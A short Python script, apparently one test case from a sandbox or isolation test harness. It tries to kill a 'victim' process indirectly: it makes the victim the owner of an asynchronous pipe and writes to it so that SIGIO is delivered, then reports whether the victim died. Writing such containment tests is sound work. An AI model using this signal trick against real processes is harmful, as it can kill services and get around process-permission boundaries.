"""makes the victim the owner of a pipe whose input raises a signal"""

import fcntl
import os
import signal
import time


def attack():
    out, into = os.pipe()
    fcntl.fcntl(out, fcntl.F_SETOWN, TARGETS["victim"])
    fcntl.fcntl(out, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    # Its default action ends a process: the harness sees whether the victim lives.
    os.write(into, b"x")
    time.sleep(0.2)
    try:
        os.kill(TARGETS["victim"], 0)
    except ProcessLookupError:
        reached(f"signal {signal.SIGIO} has ended the victim")
    except PermissionError:
        pass
